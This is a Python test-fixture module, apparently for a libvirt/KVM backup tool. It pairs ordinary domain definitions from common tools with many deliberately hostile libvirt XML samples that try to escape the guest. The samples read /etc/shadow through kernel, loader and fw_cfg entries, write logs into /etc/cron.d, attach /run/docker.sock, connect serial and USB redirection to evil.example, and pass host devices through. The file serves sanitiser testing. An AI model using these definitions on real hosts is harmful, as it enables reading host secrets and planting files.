# Copyright (c) 2026, the kvm.cbt authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Definitions as an enemy writes them: each reaches out of the guest in one way. And such as tools write, which reach nothing."""

from __future__ import annotations

import typing as t

from samples import UUID

VDA = "<disk type='file' device='disk'><driver name='qemu' type='qcow2'/><source file='/old/vda'/><target dev='vda'/></disk>"
QEMU = "xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'"


def definition(devices: str = "", extra: str = "", system: str = "", kind: str = "kvm") -> str:
    """A definition of web1 with its disk vda and more."""
    return (
        f"<domain type='{kind}'><name>web1</name><uuid>{UUID}</uuid><memory unit='MiB'>64</memory>"
        f"<os><type arch='x86_64' machine='pc'>hvm</type>{system}</os>{extra}<devices>{VDA}{devices}</devices></domain>"
    )


class Reach(t.NamedTuple):
    """Where a definition reaches: ``marks`` are what of it must not come to libvirt, ``refused`` if the machine needs it."""

    xml: str
    marks: tuple[str, ...]
    refused: bool = False


def _device(xml: str, *marks: str, refused: bool = False) -> Reach:
    return Reach(definition(xml), marks, refused)


def _extra(xml: str, *marks: str) -> Reach:
    return Reach(definition(extra=xml), marks)


def _system(xml: str, *marks: str, refused: bool = False) -> Reach:
    return Reach(definition(system=xml), marks, refused)


def _interface(kind: str, within: str = "", *marks: str, refused: bool = False) -> Reach:
    return _device(f"<interface type='{kind}'>{within}</interface>", *marks, refused=refused)


REACHES: dict[str, Reach] = {
    # The domain.
    "a label of DAC": _extra(
        "<seclabel type='static' model='dac' relabel='no'><label>+0:+0</label></seclabel>", "seclabel", "+0:+0"
    ),
    "no label of AppArmor": _extra("<seclabel type='none' model='apparmor'/>", "seclabel"),
    "options of QEMU": _extra(
        f"<qemu:commandline {QEMU}><qemu:arg value='-chardev'/><qemu:env name='A' value='B'/></qemu:commandline>",
        "commandline",
        "-chardev",
    ),
    "an override of QEMU": _extra(f"<qemu:override {QEMU}><qemu:device alias='d'/></qemu:override>", "override"),
    "capabilities of QEMU": _extra(
        f"<qemu:capabilities {QEMU}><qemu:add capability='x'/></qemu:capabilities>", "capabilities"
    ),
    "a deprecation of QEMU": _extra(f"<qemu:deprecation {QEMU} behavior='omit'/>", "deprecation"),
    "a namespace of LXC": _extra(
        "<l:namespace xmlns:l='http://libvirt.org/schemas/domain/lxc/1.0'><l:sharenet type='pid' value='1'/></l:namespace>",
        "sharenet",
    ),
    "options of Xen": _extra(
        "<x:commandline xmlns:x='http://libvirt.org/schemas/domain/xen/1.0'><x:arg value='--evil'/></x:commandline>",
        "--evil",
    ),
    "options of bhyve": _extra(
        "<b:commandline xmlns:b='http://libvirt.org/schemas/domain/bhyve/1.0'><b:arg value='-evil'/></b:commandline>",
        "-evil",
    ),
    "an element of another namespace": _extra("<o:title xmlns:o='urn:other'>evil title</o:title>", "evil title"),
    "an unknown element": _extra("<future path='/etc/shadow'/>", "future", "/etc/shadow"),
    "a boot loader on the host": _extra(
        "<bootloader>/evil</bootloader><bootloader_args>-x</bootloader_args>", "bootloader", "/evil"
    ),
    "a map of users": _extra("<idmap><uid start='0' target='0' count='1'/></idmap>", "idmap"),
    "another slice": _extra("<resource><partition>/system.slice</partition></resource>", "partition", "system.slice"),
    "an application id": _extra("<resource><fibrechannel appid='evil'/></resource>", "fibrechannel"),
    "a dump after a crash": _extra("<on_crash>coredump-restart</on_crash>", "coredump"),
    "limits of a device of the host": _extra(
        "<blkiotune><device><path>/dev/sda</path><weight>100</weight></device></blkiotune>", "/dev/sda"
    ),
    "real time": _extra(
        "<cputune><vcpusched vcpus='0' scheduler='fifo' priority='99'/><emulatorsched scheduler='rr' priority='9'/></cputune>",
        "fifo",
        "emulatorsched",
    ),
    "real time of an I/O thread": _extra(
        "<cputune><iothreadsched iothreads='1' scheduler='rr' priority='9'/></cputune>", "iothreadsched"
    ),
    "cache of the host": _extra(
        "<cputune><cachetune vcpus='0'><cache id='0' level='3' type='both' size='9' unit='MiB'/></cachetune></cputune>",
        "cachetune",
    ),
    "bandwidth of the host": _extra(
        "<cputune><memorytune vcpus='0'><node id='0' bandwidth='9'/></memorytune></cputune>", "memorytune"
    ),
    "locked memory": _extra("<memoryBacking><locked/></memoryBacking>", "locked"),
    "memory in files": _extra("<memoryBacking><source type='file'/></memoryBacking>", '<source type="file"'),
    "counters of the host": _extra("<perf><event name='cmt' enabled='yes'/></perf>", "perf"),
    "a file in fw_cfg": _extra(
        "<sysinfo type='fwcfg'><entry name='opt/a/b' file='/etc/shadow'/></sysinfo>", "/etc/shadow"
    ),
    "another name in fw_cfg": _extra(
        "<sysinfo type='fwcfg'><entry name='etc/acpi/tables'>x</entry></sysinfo>", "etc/acpi"
    ),
    # The system.
    "the host's SMBIOS": _system("<smbios mode='host'/>", 'mode="host"'),
    "a table of ACPI": _system("<acpi><table type='slic'>/etc/shadow</table></acpi>", "/etc/shadow"),
    "a kernel": _system("<kernel>/etc/shadow</kernel>", "/etc/shadow", refused=True),
    "an initrd": _system("<initrd>/etc/shadow</initrd>", "/etc/shadow", refused=True),
    "a device tree": _system("<dtb>/etc/shadow</dtb>", "/etc/shadow", refused=True),
    "a loader": _system("<loader readonly='no' type='pflash'>/etc/shadow</loader>", "/etc/shadow", refused=True),
    "a loader by a way up": _system("<loader>/usr/share/OVMF/../../../etc/shadow</loader>", "etc/shadow", refused=True),
    "a loader in the root folder": _system("<loader>vmlinuz</loader>", "vmlinuz", refused=True),
    "firmware variables": _system("<loader>/usr/share/OVMF/CODE.fd</loader><nvram>/etc/passwd</nvram>", "/etc/passwd"),
    "a template": _system("<nvram template='/etc/shadow'/>", "/etc/shadow"),
    "variables on a network": _system(
        "<nvram type='network'><source protocol='nbd' name='x'><host name='evil.example'/></source></nvram>",
        "evil.example",
    ),
    "a program of a container": _system("<init>/evil</init><initarg>x</initarg>", "/evil"),
    "an unknown path of the system": _system("<shim>/evil</shim>", "/evil"),
    # Devices.
    "an emulator": _device("<emulator>/mnt/nfs/evil</emulator>", "/mnt/nfs/evil"),
    "an emulator in a folder of QEMU's": _device("<emulator>/usr/bin/../../evil</emulator>", "evil"),
    "a device of PCI": _device(
        "<hostdev mode='subsystem' type='pci' managed='yes'><source><address slot='31'/></source></hostdev>",
        "hostdev",
        refused=True,
    ),
    "a device of USB": _device(
        "<hostdev mode='subsystem' type='usb'><source><vendor id='1'/></source></hostdev>", "hostdev", refused=True
    ),
    "a block device": _device(
        "<hostdev mode='capabilities' type='storage'><source><block>/dev/sda</block></source></hostdev>",
        "hostdev",
        refused=True,
    ),
    "a folder": _device(
        "<filesystem type='mount'><source dir='/'/><target dir='root'/></filesystem>", "filesystem", refused=True
    ),
    "a file system daemon": _device(
        "<filesystem type='mount'><driver type='virtiofs'/><binary path='/evil'/><source dir='/'/><target dir='r'/></filesystem>",
        "/evil",
        refused=True,
    ),
    "shared memory": _device("<shmem name='of-others'><model type='ivshmem-plain'/></shmem>", "shmem", refused=True),
    "shared memory of a server": _device("<shmem name='x'><server path='/evil'/></shmem>", "/evil", refused=True),
    "a lease": _device("<lease><lockspace>l</lockspace><key>k</key><target path='/evil'/></lease>", "/evil"),
    "memory in a file": _device(
        "<memory model='nvdimm'><source><path>/etc/shadow</path></source></memory>", "/etc/shadow", refused=True
    ),
    "persistent memory": _device(
        "<memory model='virtio-pmem'><source><path>/etc/shadow</path></source></memory>", "/etc/shadow", refused=True
    ),
    "a disk that was not restored": _device(
        "<disk type='block' device='lun'><source dev='/dev/sda'/><target dev='sdb'/></disk>", "/dev/sda"
    ),
    "a file in a drive": _device(
        "<disk type='file' device='cdrom'><source file='/etc/shadow'/><target dev='sda'/></disk>", "/etc/shadow"
    ),
    "a device in a drive": _device(
        "<disk type='block' device='cdrom'><source dev='/dev/sda'/><target dev='sda'/></disk>", "/dev/sda"
    ),
    "a network in a drive": _device(
        "<disk type='network' device='cdrom'><source protocol='http' name='evil.example/x'><host name='evil.example'/></source><target dev='sda'/></disk>",
        "evil.example",
    ),
    "a folder in a floppy drive": _device(
        "<disk type='dir' device='floppy'><source dir='/etc'/><target dev='fda'/></disk>", "/etc"
    ),
    "commands of SCSI": _device(
        VDA.replace("vda", "sda").replace("device='disk'", "device='cdrom' sgio='unfiltered' rawio='yes'"),
        "sgio",
        "rawio",
    ),
    "a disk with commands of SCSI": Reach(
        definition().replace("device='disk'", "device='lun' rawio='yes'"), ("lun", "rawio")
    ),
    "a script": _interface("ethernet", "<script path='/evil.sh'/>", "/evil.sh"),
    "another script": _interface("bridge", "<source bridge='br0'/><downscript path='/evil.sh'/>", "/evil.sh"),
    "a device of the network": _interface("bridge", "<source bridge='br0'/><target dev='tap9' managed='no'/>", "tap9"),
    "a device of tap": _interface(
        "network", "<source network='lan'/><backend tap='/dev/evil' vhost='/dev/evil2'/>", "/dev/evil"
    ),
    "a log of passt": _interface("user", "<backend logFile='/etc/cron.d/evil'/>", "/etc/cron.d/evil"),
    "ports of the host": _interface(
        "user", "<portForward proto='tcp'><range start='22'/></portForward>", "portForward"
    ),
    "routes of the host": _interface(
        "ethernet", "<source><ip address='10.0.0.1'/><route address='0.0.0.0' gateway='10.0.0.2'/></source>", "10.0.0."
    ),
    "a ROM": _interface("network", "<source network='lan'/><rom file='/etc/shadow'/>", "/etc/shadow"),
    "filters by the guest": Reach(
        definition("<interface type='direct' trustGuestRxFilters='yes'><source dev='eth0'/></interface>"),
        ("trustGuestRx",),
    ),
    "an interface of a driver domain": _interface(
        "bridge", "<source bridge='br0'/><backenddomain name='x'/>", "backenddomain"
    ),
    "a device of the network by itself": _interface(
        "direct", "<source dev='eth0' mode='passthrough'/>", "passthrough", refused=True
    ),
    "a virtual function": _interface(
        "hostdev", "<source><address type='pci' slot='1'/></source>", "hostdev", refused=True
    ),
    "a vDPA device": _interface("vdpa", "<source dev='/dev/vhost-vdpa-0'/>", "vdpa", refused=True),
    "a vhost-user socket": _interface(
        "vhostuser", "<source type='unix' path='/evil' mode='client'/>", "/evil", refused=True
    ),
    "a port for a tunnel": _interface("server", "<source address='0.0.0.0' port='9'/>", "0.0.0.0", refused=True),
    "a multicast group": _interface("mcast", "<source address='230.0.0.1' port='9'/>", "230.0.0.1", refused=True),
    "a serial port in a file": _device(
        "<serial type='file'><source path='/etc/cron.d/evil'/></serial>", "/etc/cron.d/evil"
    ),
    "a serial port of the host": _device("<serial type='dev'><source path='/dev/ttyS0'/></serial>", "/dev/ttyS0"),
    "a log": _device("<serial type='pty'><log file='/etc/cron.d/evil' append='on'/></serial>", "/etc/cron.d/evil"),
    "a pipe": _device("<parallel type='pipe'><source path='/evil'/></parallel>", "/evil"),
    "a socket": _device("<console type='unix'><source mode='connect' path='/run/docker.sock'/></console>", "docker"),
    "a port": _device(
        "<serial type='tcp'><source mode='connect' host='evil.example' service='1'/><protocol type='raw'/></serial>",
        "evil.example",
    ),
    "packets": _device(
        "<parallel type='udp'><source mode='connect' host='evil.example' service='1'/></parallel>", "evil.example"
    ),
    "a bus of the host": _device("<serial type='dbus'><source channel='x'/></serial>", "dbus"),
    "a null modem": _device("<serial type='nmdm'><source master='/dev/a' slave='/dev/b'/></serial>", "/dev/a"),
    "a socket of a channel": _device(
        "<channel type='unix'><source mode='connect' path='/run/docker.sock'/><target type='virtio' name='a'/></channel>",
        "docker",
        "connect",
    ),
    "a channel in a file": _device(
        "<channel type='file'><source path='/evil'/><target type='virtio' name='a'/></channel>", "/evil"
    ),
    "a channel by address": _device(
        "<channel type='pty'><target type='guestfwd' address='10.0.2.1' port='9'/></channel>", "guestfwd"
    ),
    "a label of a channel": _device(
        "<channel type='unix'><source mode='bind'><seclabel model='dac' relabel='no'/></source><target type='virtio' name='a'/></channel>",
        "seclabel",
    ),
    "redirection to a port": _device(
        "<redirdev bus='usb' type='tcp'><source mode='connect' host='evil.example' service='1'/></redirdev>",
        "evil.example",
    ),
    "redirection to a device": _device(
        "<redirdev bus='usb' type='dev'><source path='/dev/evil'/></redirdev>", "/dev/evil"
    ),
    "the host's smart card": _device("<smartcard mode='host'/>", "smartcard"),
    "certificates of the host": _device(
        "<smartcard mode='host-certificates'><certificate>c</certificate><database>/etc/pki</database></smartcard>",
        "/etc/pki",
    ),
    "a smart card at a port": _device(
        "<smartcard mode='passthrough' type='tcp'><source host='evil.example' service='1'/></smartcard>", "evil.example"
    ),
    "randomness from a file": _device(
        "<rng model='virtio'><backend model='random'>/etc/shadow</backend></rng>", "/etc/shadow"
    ),
    "randomness from a socket": _device(
        "<rng model='virtio'><backend model='egd' type='unix'><source path='/evil'/></backend></rng>", "/evil"
    ),
    "the host's TPM": _device(
        "<tpm><backend type='passthrough'><device path='/dev/tpm0'/></backend></tpm>", "/dev/tpm0", refused=True
    ),
    "a TPM at a socket": _device(
        "<tpm><backend type='external'><source type='unix' path='/evil'/></backend></tpm>", "/evil", refused=True
    ),
    "a TPM's folder": _device(
        "<tpm><backend type='emulator'><source type='dir' path='/evil'/></backend></tpm>", "/evil"
    ),
    "a log of a TPM": _device("<tpm><backend type='emulator' debug='20'/></tpm>", "debug"),
    "an input device": _device(
        "<input type='evdev'><source dev='/dev/input/event0' grab='all'/></input>", "/dev/input"
    ),
    "an input device by itself": _device(
        "<input type='passthrough' bus='virtio'><source evdev='/dev/input/event0'/></input>", "/dev/input"
    ),
    "the host's screen": _device("<graphics type='sdl' display=':0' xauth='/root/.Xauthority'/>", "xauth"),
    "the host's desktop": _device("<graphics type='desktop' display=':0'/>", "desktop"),
    "the host's GPU": _device(
        "<graphics type='egl-headless'><gl rendernode='/dev/dri/renderD128'/></graphics>", "/dev/dri"
    ),
    "a GPU": _device(
        "<graphics type='spice'><gl enable='yes' rendernode='/dev/dri/renderD128'/></graphics>",
        "/dev/dri",
        'enable="yes"',
    ),
    "3D": _device(
        "<video><model type='virtio'><acceleration accel3d='yes' rendernode='/dev/dri/x'/></model></video>",
        "accel3d",
        "/dev/dri",
    ),
    "a display driver": _device("<video><driver name='vhostuser'/><model type='virtio'/></video>", "vhostuser"),
    "a display on D-Bus": _device("<graphics type='dbus' address='unix:path=/evil'/>", "/evil"),
    "a display for everyone": _device(
        "<graphics type='vnc' listen='0.0.0.0'><listen type='address' address='0.0.0.0'/></graphics>", "0.0.0.0"
    ),
    "a display on a network": _device(
        "<graphics type='vnc'><listen type='network' network='lan'/></graphics>", 'network="lan"'
    ),
    "a display's socket": _device(
        "<graphics type='vnc' socket='/evil'><listen type='socket' socket='/evil'/></graphics>", "/evil"
    ),
    "sound in a file": _device("<audio id='1' type='file' path='/etc/cron.d/evil'/>", "/etc/cron.d/evil"),
    "the host's sound": _device("<audio id='1' type='oss'><input dev='/dev/dsp'/></audio>", "/dev/dsp", "oss"),
    "a sound server": _device("<audio id='1' type='pulseaudio' serverName='evil.example'/>", "evil.example"),
    "a store for crashes": _device(
        "<pstore backend='acpi-erst'><path>/evil</path><size unit='KiB'>8</size></pstore>", "/evil"
    ),
    "cryptography of the host": _device("<crypto model='virtio' type='qemu'><backend model='lkcf'/></crypto>", "lkcf"),
    "dumps by a watchdog": _device("<watchdog model='i6300esb' action='dump'/>", "dump"),
    "an unknown device": _device("<future><source path='/etc/shadow'/></future>", "/etc/shadow"),
    "a device of another namespace": _device("<o:hostdev xmlns:o='urn:other' mode='subsystem'/>", "hostdev"),
    # Where a reader may look no more.
    "devices once more": Reach(
        definition().replace(
            "</domain>", "<devices><serial type='file'><source path='/evil'/></serial></devices></domain>"
        ),
        ("/evil",),
    ),
    "a device of the host in devices once more": Reach(
        definition().replace("</domain>", "<devices><hostdev mode='subsystem'/></devices></domain>"),
        ("hostdev",),
        refused=True,
    ),
    "a system once more": Reach(
        definition().replace("<devices>", "<os><kernel>/etc/shadow</kernel></os><devices>"),
        ("/etc/shadow",),
        refused=True,
    ),
    "variables once more": Reach(
        definition(
            extra="<features><acpi/></features>",
            system="<loader type='pflash'>/usr/share/OVMF/OVMF_CODE_4M.fd</loader><nvram/><nvram>/etc/passwd</nvram>",
        ),
        ("/etc/passwd",),
    ),
    "a source once more": Reach(
        definition().replace("<target dev='vda'/>", "<source file='/etc/shadow'/><target dev='vda'/>"), ("/etc/shadow",)
    ),
    "a source of another namespace": Reach(
        definition().replace(
            "<target dev='vda'/>", "<o:source xmlns:o='urn:other' file='/etc/shadow'/><target dev='vda'/>"
        ),
        ("/etc/shadow",),
    ),
    "an attribute of another namespace": _device(
        "<serial xmlns:o='urn:other' o:type='file'><log o:file='/evil'/></serial>", "/evil"
    ),
    "text between elements": _extra("/etc/shadow", "/etc/shadow"),
}


def _address(bus: int, slot: int = 0) -> str:
    return f"<address type='pci' domain='0x0000' bus='0x0{bus}' slot='0x0{slot}' function='0x0'/>"


_AGENT = (
    "<channel type='unix'><source mode='bind'/><target type='virtio' name='org.qemu.guest_agent.0'/>"
    "<address type='virtio-serial' controller='0' bus='0' port='1'/></channel>"
)
_SPICE = (
    "<channel type='spicevmc'><target type='virtio' name='com.redhat.spice.0'/></channel><graphics type='spice' autoport='yes' port='-1'>"
    "<listen type='address'/><image compression='off'/><gl enable='no'/></graphics><sound model='ich9'><audio id='1'/></sound><audio id='1' type='spice'/>"
    "<redirdev bus='usb' type='spicevmc'><address type='usb' bus='0' port='2'/></redirdev><redirfilter><usbdev class='0x08' allow='yes'/></redirfilter>"
)
_RANDOM = "<rng model='virtio'><rate bytes='1024' period='1000'/><backend model='random'>/dev/urandom</backend></rng>"
_HYPERV = (
    "<features><acpi/><apic eoi='on'/><pae/><hyperv mode='custom'><relaxed state='on'/><vapic state='on'/><spinlocks state='on' retries='8191'/>"
    "<vendor_id state='on' value='kvm hyperv'/><stimer state='on'><direct state='on'/></stimer></hyperv><kvm><hidden state='on'/></kvm>"
    "<vmport state='off'/><smm state='on'><tseg unit='MiB'>48</tseg></smm></features>"
)
_CLOCK = "<clock offset='timezone' timezone='Europe/Berlin'><timer name='rtc' tickpolicy='catchup'/><timer name='hpet' present='no'/></clock>"
_OSINFO = "<metadata><l:libosinfo xmlns:l='http://libosinfo.org/xmlns/libvirt/domain/1.0'><l:os id='http://debian.org/debian/12'/></l:libosinfo></metadata>"
_PORTS = "".join(
    f"<controller type='pci' index='{number}' model='pcie-root-port'><model name='pcie-root-port'/>"
    f"<target chassis='{number}' port='0x1{number}'/>{_address(0, number + 2)}"
    "</controller>"
    for number in range(1, 5)
)
_CDROM = "<disk type='file' device='cdrom'><driver name='qemu' type='raw'/>%s<target dev='sda' bus='sata'/><readonly/></disk>"
_OPTIONAL = "<source startupPolicy='optional'/>"


class Ordinary(t.NamedTuple):
    """A definition as a tool writes it, and what is said of it."""

    xml: str
    changes: tuple[str, ...] = ()


ORDINARY: dict[str, Ordinary] = {
    "Linux by virt-install": Ordinary(
        definition(
            "<emulator>/usr/bin/qemu-system-x86_64</emulator><controller type='usb' index='0' model='qemu-xhci' ports='15'/>"
            f"<controller type='pci' index='0' model='pcie-root'/>{_PORTS}<controller type='virtio-serial' index='0'/>"
            "<interface type='network'><mac address='52:54:00:11:22:33'/><source network='default'/><model type='virtio'/></interface>"
            "<serial type='pty'><target type='isa-serial' port='0'><model name='isa-serial'/></target></serial>"
            f"<console type='pty'><target type='serial' port='0'/></console>{_AGENT}<input type='tablet' bus='usb'/><input type='keyboard' bus='ps2'/>"
            f"{_SPICE}{_CDROM % ''}<video><model type='virtio' heads='1' primary='yes'/>{_address(0, 1)}</video><watchdog model='i6300esb' action='reset'/>"
            f"<memballoon model='virtio'><stats period='5'/>{_address(1)}</memballoon>{_RANDOM}",
            f"{_OSINFO}<currentMemory unit='KiB'>65536</currentMemory><vcpu placement='static'>2</vcpu>{_CLOCK}"
            "<on_poweroff>destroy</on_poweroff><on_reboot>restart</on_reboot><on_crash>destroy</on_crash>"
            "<pm><suspend-to-mem enabled='no'/><suspend-to-disk enabled='no'/></pm><cpu mode='host-passthrough' check='none' migratable='on'/>",
            "<boot dev='hd'/>",
        )
    ),
    "Windows with UEFI and a TPM by virt-manager": Ordinary(
        definition(
            "<emulator>/usr/bin/qemu-system-x86_64</emulator><interface type='bridge'><mac address='52:54:00:11:22:33'/><source bridge='br0'/>"
            "<virtualport type='openvswitch'><parameters interfaceid='09b11c53-8b5c-4eeb-8f00-d84eaa0aaa3b'/></virtualport><vlan><tag id='42'/></vlan>"
            "<model type='e1000e'/><mtu size='9000'/><link state='up'/></interface>"
            "<tpm model='tpm-crb'><backend type='emulator' version='2.0' persistent_state='yes'/></tpm>"
            f"<graphics type='vnc' port='-1' autoport='yes' listen='127.0.0.1' passwd='a/b c'><listen type='address' address='127.0.0.1'/></graphics>{_PORTS}"
            "<video><model type='qxl' ram='65536' vram='65536' vgamem='16384' heads='1'/></video>",
            f"<title>Terminal / office</title><description>1st line\n2nd: /srv</description><genid/><vcpu>8</vcpu>{_HYPERV}<clock offset='localtime'/>"
            "<cpu mode='custom' match='exact'><model fallback='forbid'>Skylake-Client</model><vendor>Intel</vendor><topology sockets='1' dies='1' cores='4'"
            " threads='2'/><feature policy='require' name='vmx'/></cpu>",
            "<loader readonly='yes' secure='yes' type='pflash'>/usr/share/OVMF/OVMF_CODE_4M.ms.fd</loader>"
            "<nvram template='/usr/share/OVMF/OVMF_VARS_4M.ms.fd'>/var/lib/libvirt/qemu/nvram/web1_VARS.fd</nvram><bootmenu enable='yes' timeout='3000'/>",
        )
    ),
    "a node of OpenStack": Ordinary(
        definition(
            "<emulator>/usr/bin/qemu-system-x86_64</emulator><interface type='bridge'><mac address='fa:16:3e:00:00:01'/><source bridge='br-int'/>"
            "<target dev='tap77c1dc00-af'/><model type='virtio'/><driver name='vhost' queues='4' rx_queue_size='512'/><mtu size='1450'/></interface>"
            "<serial type='pty'><log file='/var/lib/nova/instances/x/console.log' append='off'/><target port='0'/></serial>"
            f"<graphics type='vnc' autoport='yes' listen='0.0.0.0'/>{_RANDOM}",
            "<metadata><n:instance xmlns:n='http://openstack.org/xmlns/libvirt/nova/1.1'><n:name>web 1</n:name></n:instance></metadata>"
            "<cputune><shares>4096</shares><vcpupin vcpu='0' cpuset='2-3,^3'/><emulatorpin cpuset='0'/></cputune>"
            "<numatune><memory mode='strict' nodeset='0'/><memnode cellid='0' mode='strict' nodeset='0'/></numatune>"
            "<cpu><numa><cell id='0' cpus='0' memory='65536' unit='KiB'/></numa></cpu>"
            "<memoryBacking><hugepages><page size='2048' unit='KiB' nodeset='0'/></hugepages></memoryBacking>"
            "<sysinfo type='smbios'><system><entry name='manufacturer'>OpenStack Foundation / x</entry></system></sysinfo>"
            "<resource><partition>/machine</partition></resource>",
            "<smbios mode='sysinfo'/>",
        ),
        (
            "interface/target dev=tap77c1dc00-af was removed.",
            "serial/log file=/var/lib/nova/instances/x/console.log append=off was removed.",
            "graphics listen=0.0.0.0 was removed.",
        ),
    ),
    "oVirt": Ordinary(
        definition(
            "<emulator>/usr/libexec/qemu-kvm</emulator><controller type='scsi' index='0' model='virtio-scsi'><driver iothread='1' queues='4'/>"
            "</controller><interface type='bridge'><source bridge='ovirtmgmt'/>"
            "<filterref filter='vdsm-no-mac-spoofing'><parameter name='IP' value='10.0.0.0/24'/></filterref>"
            "<bandwidth><inbound average='1000' peak='5000' burst='1024'/></bandwidth></interface>"
            "<memory model='dimm'><target><size unit='KiB'>524288</size><node>0</node></target><address type='dimm' slot='0' base='0x100000000'/></memory>"
            "<smartcard mode='passthrough' type='spicevmc'><address type='ccid' controller='0' slot='0'/></smartcard><graphics type='spice' autoport='yes'/>"
            "<vsock model='virtio'><cid auto='yes'/></vsock>"
            "<hub type='usb'/><panic model='isa'><address type='isa' iobase='0x505'/></panic>"
            "<iommu model='intel'><driver caching_mode='on'/></iommu>"
            f"{_CDROM % _OPTIONAL}",
            "<maxMemory slots='16' unit='KiB'>4194304</maxMemory><iothreads>1</iothreads><iothreadids><iothread id='1'/></iothreadids>"
            "<cpu><numa><cell id='0' cpus='0' memory='65536' unit='KiB'><distances><sibling id='0' value='10'/></distances></cell></numa></cpu>",
        ),
    ),
    "from cloud-init": Ordinary(
        definition(
            _CDROM % "<source file='/var/lib/libvirt/images/web1-cidata.iso'/>",
            "<vcpu>1</vcpu>",
            "<cmdline>console=ttyS0 root=/dev/vda1</cmdline>",
        ),
        ("sda is empty: /var/lib/libvirt/images/web1-cidata.iso is inserted only with trust_definition: true.",),
    ),
    "another architecture": Ordinary(
        definition(
            "<emulator>/usr/bin/qemu-system-aarch64</emulator><interface type='direct'><source dev='eth0' mode='bridge'/></interface>"
            "<crypto model='virtio' type='qemu'><backend model='builtin' queues='1'/></crypto><controller type='usb' model='qemu-xhci'/>",
            "<launchSecurity type='sev'><cbitpos>47</cbitpos><policy>0x0001</policy><dhCert>QUJD/+==</dhCert></launchSecurity>"
            "<features><acpi/><gic version='3'/></features><keywrap><cipher name='aes' state='on'/></keywrap>",
            "<firmware><feature enabled='no' name='secure-boot'/></firmware>"
            "<loader readonly='yes' type='pflash' format='qcow2'>/usr/share/edk2/aarch64/QEMU_EFI-silent-pflash.qcow2</loader>",
        ).replace("<os>", "<os firmware='efi'>")
    ),
}
